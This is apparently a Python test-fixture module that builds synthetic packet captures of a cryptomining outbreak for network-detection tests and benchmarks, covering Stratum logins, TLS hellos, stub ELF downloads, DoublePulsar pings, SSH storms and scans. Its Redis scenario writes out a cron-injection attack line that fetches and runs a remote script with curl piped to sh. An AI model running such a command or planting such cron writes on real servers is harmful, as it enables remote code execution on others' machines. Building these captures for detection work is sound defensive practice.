"""Packet captures for the pcap tests, demo scenarios and the benchmark, built with dpkt.

``Capture`` records IP packets with capture times; ``write`` wraps them in a link layer
(Ethernet, stacked VLANs, Linux SLL/SLL2, raw IP, BSD loopback) and a container (pcap in
either byte order, micro or nano seconds; pcapng, also big-endian with nanosecond
``if_tsresol``). Scenarios are the outbreak's network traces: Stratum logins (XMRig and
stratum v1, whole or joined mid-session), TLS ClientHellos to pool names, HTTP downloads of
ELF droppers, Redis ``CONFIG SET`` cron writes, SMB Trans2 DoublePulsar pings, SSH banners
and brute-force storms, DNS, scans. ``big_capture`` streams a mix of them for benchmarks.
"""

from __future__ import annotations

import json
import random
import socket
import struct
from collections.abc import Iterable
from pathlib import Path

import dpkt

T0 = 1711785600.0          # 2024-03-30 08:00:00 UTC
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
XMRIG_AGENT = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
LINKS = {"ethernet": 1, "vlan": 1, "qinq": 1, "sll": 113, "sll2": 276, "raw": 101, "null": 0,
         "loop": 108}
# Chrome-like ClientHello: the list FoxIO's JA4 write-up uses as its worked example.
CHROME_CIPHERS = (0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8, 0xC013,
                  0xC014, 0x009C, 0x009D, 0x002F, 0x0035)
CHROME_EXTS = (0x001B, 0x0000, 0x0033, 0x0010, 0x4469, 0x0017, 0x002D, 0x000D, 0x0005, 0x0023,
               0x0012, 0x002B, 0xFF01, 0x000B, 0x000A, 0x0015)
CHROME_SIGALGS = (0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601)


def _ip(addr: str) -> bytes:
    return socket.inet_pton(socket.AF_INET6 if ":" in addr else socket.AF_INET, addr)


def _u16(*values: int) -> bytes:
    return b"".join(struct.pack("!H", v) for v in values)


def _vec(data: bytes, size: int = 2) -> bytes:
    return len(data).to_bytes(size, "big") + data


def client_hello(sni: str | None = "pool.supportxmr.com", ciphers: Iterable[int] = CHROME_CIPHERS,
                 exts: Iterable[int] = CHROME_EXTS, groups: Iterable[int] = (0x001D, 0x0017, 0x0018),
                 sigalgs: Iterable[int] = CHROME_SIGALGS, alpn: Iterable[bytes] = (b"h2", b"http/1.1"),
                 versions: Iterable[int] = (0x0304, 0x0303), legacy: int = 0x0303,
                 grease: bool = True, point_formats: bytes = b"\x00") -> bytes:
    """One TLS record with a ClientHello whose extensions come in ``exts`` order."""
    g = [0x0A0A] if grease else []
    bodies = {
        0x0000: _vec(b"\x00" + _vec((sni or "").encode())),
        0x000A: _vec(_u16(*g, *groups)), 0x000B: _vec(point_formats, 1),
        0x000D: _vec(_u16(*sigalgs)), 0x0010: _vec(b"".join(_vec(p, 1) for p in alpn)),
        0x002B: _vec(_u16(*g, *versions), 1), 0x002D: b"\x01\x01", 0xFF01: b"\x00",
        0x0033: _vec(_u16(0x001D, 32) + bytes(32)), 0x0005: b"\x01\x00\x00\x00\x00",
        0x001B: b"\x02\x00\x02", 0x4469: b"\x00\x03\x02h2", 0x0015: bytes(40)}
    ext_bytes = b"".join(_u16(e) + _vec(bodies.get(e, b"")) for e in
                         ([0x1A1A] if grease else []) + [e for e in exts if e or sni is not None])
    body = (_u16(legacy) + bytes(range(32)) + _vec(bytes(32), 1) + _vec(_u16(*g, *ciphers))
            + b"\x01\x00" + _vec(ext_bytes))
    hs = b"\x01" + _vec(body, 3)
    return b"\x16\x03\x01" + _vec(hs)


def _der(tag: int, content: bytes) -> bytes:
    n = len(content)
    size = bytes([n]) if n < 128 else bytes([0x80 | ((n.bit_length() + 7) // 8)]) + n.to_bytes(
        (n.bit_length() + 7) // 8, "big")
    return bytes([tag]) + size + content


def _name(**rdns: str) -> bytes:
    oids = {"C": b"\x55\x04\x06", "O": b"\x55\x04\x0a", "CN": b"\x55\x04\x03"}
    return _der(0x30, b"".join(_der(0x31, _der(0x30, _der(6, oids[k]) + _der(12, v.encode())))
                               for k, v in rdns.items()))


def certificate(subject_cn: str, issuer_cn: str) -> bytes:
    """A DER certificate shaped like a real one (the signature is not a signature)."""
    alg = _der(0x30, _der(6, bytes.fromhex("2a864886f70d01010b")) + b"\x05\x00")
    tbs = _der(0x30, _der(0xA0, _der(2, b"\x02")) + _der(2, b"\x01\x23") + alg
               + _name(C="US", O="Test Pool", CN=issuer_cn)
               + _der(0x30, _der(0x17, b"240101000000Z") + _der(0x17, b"340101000000Z"))
               + _name(O="Test Pool", CN=subject_cn)
               + _der(0x30, alg + _der(3, b"\x00" + bytes(64))))
    return _der(0x30, tbs + alg + _der(3, b"\x00" + bytes(64)))


def server_hello_tls12(cert: bytes) -> bytes:
    hello = _u16(0x0303) + bytes(32) + b"\x00" + _u16(0xC02F) + b"\x00" + _vec(_u16(0xFF01, 1) + b"\x00")
    msgs = b"\x02" + _vec(hello, 3) + b"\x0b" + _vec(_vec(_vec(cert, 3), 3), 3) + b"\x0e\x00\x00\x00"
    return b"\x16\x03\x03" + _vec(msgs)


def dns_message(qname: str, qtype: int = 1, ident: int = 0x1234, answers: Iterable[bytes] = (),
                rcode: int = 0, response: bool = False) -> bytes:
    """A DNS message; ``answers`` are rdata of ``qtype`` records for the question's name."""
    answers = list(answers)
    name = b"".join(_vec(p.encode(), 1) for p in qname.split(".") if p) + b"\x00"
    flags = (0x8180 | rcode) if response else 0x0100
    out = struct.pack("!HHHHHH", ident, flags, 1, len(answers), 0, 0) + name + _u16(qtype, 1)
    return out + b"".join(b"\xc0\x0c" + _u16(qtype, 1) + struct.pack("!I", 300) + _vec(a)
                          for a in answers)


def smb1(cmd: int, mid: int, words: bytes = b"", data: bytes = b"", status: int = 0,
         reply: bool = False) -> bytes:
    flags = b"\x98" if reply else b"\x18"
    header = (b"\xffSMB" + bytes([cmd]) + struct.pack("<I", status) + flags + _u16(0x4807)[::-1]
              + bytes(12) + struct.pack("<HHHH", 0, 0xFEFF, 0, mid))
    return _vec(header + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data, 4)


def trans2(mid: int, sub: int) -> bytes:
    words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0x0134EE00, 0, 12, 66, 0, 78, 1, 0, sub)
    return smb1(0x32, mid, words, bytes(13))


class Capture:
    """IP packets with capture times, in order; scenarios append whole conversations."""

    def __init__(self, start: float = T0) -> None:
        self.now = start
        self.packets: list[tuple[float, bytes]] = []
        self.rng = random.Random(7)

    def ip(self, src: str, dst: str, proto: int, l4: dpkt.Packet, gap: float = 0.001) -> None:
        self.now = round(self.now + gap, 6)     # whole microseconds: every container stores them
        if ":" in src:
            data = bytes(l4)
            pkt: dpkt.Packet = dpkt.ip6.IP6(src=_ip(src), dst=_ip(dst), nxt=proto, hlim=64, plen=len(data),
                                            data=data)
        else:
            pkt = dpkt.ip.IP(src=_ip(src), dst=_ip(dst), p=proto, ttl=64, data=l4)
        self.packets.append((self.now, bytes(pkt)))

    def tcp_session(self, client: str, server: str, dport: int, exchange: Iterable[tuple[int, bytes]],
                    sport: int | None = None, handshake: bool = True, close: str | None = "fin",
                    mss: int = 1400, gap: float = 0.001) -> int:
        """A TCP conversation: ``exchange`` is (0 client / 1 server, bytes) in order."""
        sport = sport or self.rng.randrange(32768, 61000)
        seq = [self.rng.randrange(1 << 32), self.rng.randrange(1 << 32)]
        ends = ((client, server, sport, dport), (server, client, dport, sport))

        def send(side: int, flags: int, data: bytes = b"") -> None:
            a, b, sp, dp = ends[side]
            tcp = dpkt.tcp.TCP(sport=sp, dport=dp, seq=seq[side], ack=seq[1 - side], flags=flags,
                               win=64240, data=data)
            self.ip(a, b, 6, tcp, gap)
            seq[side] = (seq[side] + len(data) + (1 if flags & (dpkt.tcp.TH_SYN | dpkt.tcp.TH_FIN) else 0)) \
                & 0xFFFFFFFF

        if handshake:
            send(0, dpkt.tcp.TH_SYN)
            send(1, dpkt.tcp.TH_SYN | dpkt.tcp.TH_ACK)
            send(0, dpkt.tcp.TH_ACK)
        for side, data in exchange:
            for i in range(0, len(data), mss):
                send(side, dpkt.tcp.TH_ACK | dpkt.tcp.TH_PUSH, data[i:i + mss])
        if close == "fin":
            send(0, dpkt.tcp.TH_FIN | dpkt.tcp.TH_ACK)
            send(1, dpkt.tcp.TH_FIN | dpkt.tcp.TH_ACK)
            send(0, dpkt.tcp.TH_ACK)
        elif close == "rst":
            send(0, dpkt.tcp.TH_RST | dpkt.tcp.TH_ACK)
        return sport

    def udp(self, src: str, dst: str, sport: int, dport: int, data: bytes) -> None:
        self.ip(src, dst, 17, dpkt.udp.UDP(sport=sport, dport=dport, ulen=8 + len(data), data=data))

    # -- scenarios ----------------------------------------------------------------------------
    def dns(self, client: str, server: str, qname: str, qtype: int = 1,
            answers: Iterable[bytes] = (), rcode: int = 0, sport: int | None = None) -> None:
        sport = sport or self.rng.randrange(32768, 61000)
        ident = self.rng.randrange(1 << 16)
        self.udp(client, server, sport, 53, dns_message(qname, qtype, ident))
        self.udp(server, client, 53, sport, dns_message(qname, qtype, ident, answers, rcode, True))

    def stratum(self, client: str, pool: str, port: int = 3333, submits: int = 3, jobs: int = 2,
                wallet: str = WALLET, agent: str = XMRIG_AGENT, mid_session: bool = False,
                split: bool = True, compact: bool = False) -> int:
        """An XMRig session: login, the pool's job, submits and jobs, keepalives."""
        dumps = (lambda m: json.dumps(m, separators=(",", ":"))) if compact else json.dumps
        ex: list[tuple[int, bytes]] = []
        if not mid_session:
            login = {"id": 1, "jsonrpc": "2.0", "method": "login", "params": {
                "login": wallet, "pass": "x-worker01", "agent": agent, "rigid": "rig-7",
                "algo": ["rx/0", "cn/r", "cn-pico"]}}
            line = dumps(login).encode() + b"\n"
            ex += [(0, line[:40]), (0, line[40:])] if split else [(0, line)]
            ex.append((1, json.dumps({"result": {"status": "OK", "job": {
                "job_id": "j0", "blob": "07" * 76, "target": "b88d0600", "algo": "rx/0"},
                "id": "sess-1"}, "error": None, "jsonrpc": "2.0", "id": 1}).encode() + b"\n"))
        for i in range(max(submits, jobs)):
            if i < jobs:
                ex.append((1, dumps({"jsonrpc": "2.0", "method": "job", "params": {
                    "job_id": f"j{i + 1}", "blob": "07" * 76, "target": "b88d0600", "algo": "rx/0"}}
                ).encode() + b"\n"))
            if i < submits:
                ex.append((0, dumps({"id": i + 2, "jsonrpc": "2.0", "method": "submit", "params": {
                    "id": "sess-1", "job_id": f"j{i}", "nonce": "deadbeef", "result": "ab" * 32}}
                ).encode() + b"\n"))
        ex.append((0, dumps({"id": 99, "jsonrpc": "2.0", "method": "keepalived",
                             "params": {"id": "sess-1"}}).encode() + b"\n"))
        return self.tcp_session(client, pool, port, ex, handshake=not mid_session,
                                close=None if mid_session else "fin")

    def stratum_v1(self, client: str, pool: str, port: int = 3333, user: str = "bc1qworker.rig1") -> int:
        lines = [(0, {"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.11.1"]}),
                 (1, {"id": 1, "result": [[["mining.notify", "ae68"]], "08000002", 4], "error": None}),
                 (0, {"id": 2, "method": "mining.authorize", "params": [user, "password"]}),
                 (1, {"id": None, "method": "mining.set_difficulty", "params": [2048]}),
                 (1, {"id": None, "method": "mining.notify", "params": ["bf", "4d16b6f8", "", "", [],
                                                                       "20000000", "1a0b", "5d2c", True]}),
                 (0, {"id": 4, "method": "mining.submit", "params": [user, "bf", "00000001", "5d2c",
                                                                     "b2957c02"]})]
        return self.tcp_session(client, pool, port, [(s, json.dumps(m).encode() + b"\n") for s, m in lines])

    def tls(self, client: str, server: str, sni: str | None = "pool.supportxmr.com", port: int = 443,
            hello: bytes | None = None, cert: bytes | None = None) -> int:
        ex = [(0, hello or client_hello(sni))]
        if cert is not None:
            ex.append((1, server_hello_tls12(cert)))
        return self.tcp_session(client, server, port, [*ex, (0, b"\x17\x03\x03\x00\x10" + bytes(16))])

    def http_download(self, client: str, server: str, uri: str = "/x86_64", host: str = "203.0.113.50",
                      body: bytes = ELF, agent: str = "Wget/1.21.2", port: int = 80,
                      chunked: bool = False) -> int:
        req = f"GET {uri} HTTP/1.1\r\nUser-Agent: {agent}\r\nAccept: */*\r\nHost: {host}\r\n\r\n".encode()
        length = f"Content-Length: {len(body)}\r\n".encode()
        framing = b"Transfer-Encoding: chunked\r\n" if chunked else length
        payload = f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n" if chunked else body
        resp = b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\n" + framing
        return self.tcp_session(client, server, port, [(0, req), (1, resp + b"\r\n" + payload)])

    def redis_config_set(self, attacker: str, server: str, port: int = 6379, inline: bool = False) -> int:
        cron = "\n\n*/1 * * * * curl -fsSL http://203.0.113.50/init.sh | sh\n\n"
        cmds = [["CONFIG", "SET", "dir", "/var/spool/cron/"], ["CONFIG", "SET", "dbfilename", "root"],
                ["SET", "backup1", cron], ["SAVE"]]
        if inline:
            ex = [(0, b"PING\r\n"), (1, b"+PONG\r\n"), (0, b"CONFIG SET dir /var/spool/cron/\r\n"),
                  (1, b"+OK\r\n"), (0, b"SAVE\r\n"), (1, b"+OK\r\n")]
        else:
            ex = []
            for c in cmds:
                ex += [(0, f"*{len(c)}\r\n".encode() + b"".join(
                    f"${len(a.encode())}\r\n{a}\r\n".encode() for a in c)), (1, b"+OK\r\n")]
        return self.tcp_session(attacker, server, port, ex)

    def smb_doublepulsar(self, attacker: str, target: str, infected: bool = True) -> int:
        neg = smb1(0x72, 1, data=b"\x02NT LM 0.12\x00")
        ex = [(0, neg), (1, smb1(0x72, 1, bytes(34), reply=True)), (0, smb1(0x73, 64, bytes(26))),
              (1, smb1(0x73, 64, bytes(6), reply=True)),
              (0, smb1(0x75, 64, bytes(8), b"\\\\192.168.56.20\\IPC$\x00")),
              (1, smb1(0x75, 64, bytes(14), reply=True)), (0, trans2(65, 0x000E)),
              (1, smb1(0x32, 81 if infected else 65, status=0xC0000002, reply=True))]
        return self.tcp_session(attacker, target, 445, ex)

    def smb2_negotiate(self, client: str, server: str) -> int:
        def smb2(cmd: int, body: bytes, response: bool = False) -> bytes:
            hdr = b"\xfeSMB" + struct.pack("<H6xHHI44x", 64, cmd, 1, int(response))
            return _vec(hdr + body, 4)
        return self.tcp_session(client, server, 445, [
            (0, smb2(0, struct.pack("<HHHH28xHH", 36, 2, 1, 0, 0x0202, 0x0311))),
            (1, smb2(0, struct.pack("<HHH", 65, 1, 0x0311) + bytes(58), True)),
            (0, smb2(1, bytes(24)))])

    def ssh(self, client: str, server: str, client_banner: bytes = b"SSH-2.0-libssh2_1.10.0",
            server_banner: bytes = b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6", port: int = 22,
            close: str = "fin") -> int:
        kexinit = b"\x00\x00\x01\x14\x0a\x14" + bytes(270)
        ex = [(1, server_banner + b"\r\n"), (0, client_banner + b"\r\n"), (0, kexinit)]
        return self.tcp_session(client, server, port, ex, close=close)

    def ssh_storm(self, attacker: str, server: str, attempts: int) -> None:
        for _ in range(attempts):
            self.ssh(attacker, server, close="rst")

    def rdp(self, client: str, server: str, cookie: str = "administr") -> int:
        # TPKT + X.224 Connection Request (cookie, RDP_NEG_REQ for TLS|CredSSP) and its Confirm.
        cr = b"\xe0\x00\x00\x00\x00\x00" + f"Cookie: mstshash={cookie}\r\n".encode() + \
            struct.pack("<BBHI", 1, 0, 8, 3)
        cc = b"\xd0\x00\x00\x12\x34\x00" + struct.pack("<BBHI", 2, 0, 8, 2)

        def tpkt(x224: bytes) -> bytes:
            return b"\x03\x00" + _u16(len(x224) + 5) + bytes([len(x224)]) + x224
        return self.tcp_session(client, server, 3389, [(0, tpkt(cr)), (1, tpkt(cc))])

    def syn_scan(self, src: str, dst: str, ports: Iterable[int], open_ports: Iterable[int] = ()) -> None:
        opened = set(open_ports)
        for port in ports:
            sport = self.rng.randrange(32768, 61000)
            self.ip(src, dst, 6, dpkt.tcp.TCP(sport=sport, dport=port, seq=1000, flags=dpkt.tcp.TH_SYN))
            flags = dpkt.tcp.TH_SYN | dpkt.tcp.TH_ACK if port in opened else dpkt.tcp.TH_RST | dpkt.tcp.TH_ACK
            self.ip(dst, src, 6, dpkt.tcp.TCP(sport=port, dport=sport, seq=5000, ack=1001, flags=flags))

    def ping(self, src: str, dst: str) -> None:
        echo = dpkt.icmp.ICMP.Echo(id=7, seq=1, data=b"abcdefgh")
        self.ip(src, dst, 1, dpkt.icmp.ICMP(type=8, data=echo))
        self.ip(dst, src, 1, dpkt.icmp.ICMP(type=0, data=echo))

    # -- writing ------------------------------------------------------------------------------
    def write(self, path: Path, fmt: str = "pcap", link: str = "ethernet", snaplen: int = 65535) -> Path:
        with path.open("wb") as fh:
            writer = Writer(fh, fmt, link, snaplen)
            for ts, pkt in self.packets:
                writer.write(ts, pkt)
        return path


def frame(pkt: bytes, link: str) -> bytes:
    """``pkt`` (an IP packet) behind the link-layer header of ``link``."""
    v6 = pkt[0] >> 4 == 6
    et = b"\x86\xdd" if v6 else b"\x08\x00"
    macs = b"\x02\x00\x00\x00\x00\x02\x02\x00\x00\x00\x00\x01"
    if link == "ethernet":
        return macs + et + pkt
    if link == "vlan":
        return macs + b"\x81\x00\x00\x0a" + et + pkt
    if link == "qinq":
        return macs + b"\x88\xa8\x00\x64\x81\x00\x00\x0a" + et + pkt
    if link == "sll":
        return b"\x00\x00\x00\x01\x00\x06" + macs[:6] + b"\x00\x00" + et + pkt
    if link == "sll2":
        return et + b"\x00\x00" + struct.pack("!IHBB", 2, 1, 0, 6) + macs[:6] + b"\x00\x00" + pkt
    if link == "raw":
        return pkt
    if link == "null":
        return struct.pack("<I", 30 if v6 else 2) + pkt
    if link == "loop":
        return struct.pack("!I", 30 if v6 else 2) + pkt
    raise ValueError(link)


class Writer:
    """pcap (dpkt; or big-endian by hand) and pcapng (dpkt; or big-endian, ns, by hand)."""

    def __init__(self, fh: object, fmt: str, link: str, snaplen: int = 65535) -> None:
        self.fh, self.fmt, self.link, self.snaplen = fh, fmt, link, snaplen
        linktype = LINKS[link]
        self.dpkt: dpkt.pcap.Writer | dpkt.pcapng.Writer | None = None
        if fmt in ("pcap", "pcap-ns"):
            self.dpkt = dpkt.pcap.Writer(fh, snaplen=snaplen, linktype=linktype, nano=fmt == "pcap-ns")
        elif fmt == "pcapng":
            self.dpkt = dpkt.pcapng.Writer(fh, snaplen=snaplen, linktype=linktype)
        elif fmt == "pcap-be":
            self._out(struct.pack(">IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, snaplen, linktype))
        elif fmt == "pcapng-be":   # two interfaces; the second (used) one stamps nanoseconds
            self._out(struct.pack(">IIIHHqI", 0x0A0D0D0A, 28, 0x1A2B3C4D, 1, 0, -1, 28))
            self._block(1, struct.pack(">HHI", 147, 0, 0))
            self._block(1, struct.pack(">HHI", linktype, 0, snaplen) + struct.pack(">HHB3x", 9, 1, 9)
                        + b"\x00" * 4)
        else:
            raise ValueError(fmt)

    def _out(self, data: bytes) -> None:
        self.fh.write(data)  # type: ignore[attr-defined]

    def _block(self, btype: int, body: bytes) -> None:
        body += b"\x00" * (-len(body) % 4)
        self._out(struct.pack(">II", btype, len(body) + 12) + body + struct.pack(">I", len(body) + 12))

    def write(self, ts: float, pkt: bytes) -> None:
        data = frame(pkt, self.link)
        if self.dpkt is not None:
            self.dpkt.writepkt(data, ts=ts)
        elif self.fmt == "pcap-be":             # the only writer here that honours the snaplen
            sec, kept = int(ts), data[:self.snaplen]
            self._out(struct.pack(">IIII", sec, round((ts - sec) * 1e6), len(kept), len(data)) + kept)
        else:
            ns = round(ts * 1e9)
            self._block(6, struct.pack(">IIIII", 1, ns >> 32, ns & 0xFFFFFFFF, len(data), len(data)) + data)


def big_capture(path: Path, n_packets: int, fmt: str = "pcap", seed: int = 1) -> int:
    """A mixed outbreak capture of at least ``n_packets`` packets, streamed to ``path``."""
    cap = Capture()
    cap.rng = random.Random(seed)
    written = 0
    with path.open("wb") as fh:
        writer = Writer(fh, fmt, "ethernet")
        while written < n_packets:
            r = cap.rng.random()
            host = f"10.1.{cap.rng.randrange(1, 40)}.{cap.rng.randrange(2, 250)}"
            if r < 0.25:
                cap.dns(host, "10.1.0.53", f"host{cap.rng.randrange(5000)}.example.com",
                        answers=[_ip(f"93.184.{cap.rng.randrange(256)}.{cap.rng.randrange(256)}")])
            elif r < 0.45:
                cap.stratum(host, "198.51.100.7", port=cap.rng.choice((3333, 5555, 443)),
                            submits=cap.rng.randrange(1, 8), jobs=cap.rng.randrange(1, 8))
            elif r < 0.6:
                cap.tls(host, "203.0.113.80", sni=f"cdn{cap.rng.randrange(100)}.example.net")
            elif r < 0.7:
                cap.http_download(host, "203.0.113.50")
            elif r < 0.8:
                cap.syn_scan("192.0.2.66", host, range(20, 20 + cap.rng.randrange(5, 40)), {22, 80})
            elif r < 0.9:
                cap.ssh_storm("192.0.2.99", host, cap.rng.randrange(1, 6))
            elif r < 0.95:
                cap.redis_config_set("192.0.2.77", host)
            else:
                cap.smb_doublepulsar("192.0.2.88", host, infected=cap.rng.random() < 0.3)
            for ts, pkt in cap.packets:
                writer.write(ts, pkt)
            written += len(cap.packets)
            cap.packets.clear()
    return written


def syn_flood(path: Path, n_packets: int, target: str = "10.0.0.5", seed: int = 3) -> Path:
    """``n_packets`` SYNs from random sources and ports to one host: a flow-table flood."""
    rng = random.Random(seed)
    with path.open("wb") as fh:
        writer = Writer(fh, "pcap", "ethernet")
        for i in range(n_packets):
            tcp = dpkt.tcp.TCP(sport=rng.randrange(1024, 65536), dport=rng.choice((22, 80, 443, 445)),
                               seq=rng.randrange(1 << 32), flags=dpkt.tcp.TH_SYN)
            src = socket.inet_ntoa(rng.randbytes(4))
            writer.write(T0 + i * 1e-5, bytes(dpkt.ip.IP(src=_ip(src), dst=_ip(target), p=6, data=tcp)))
    return path

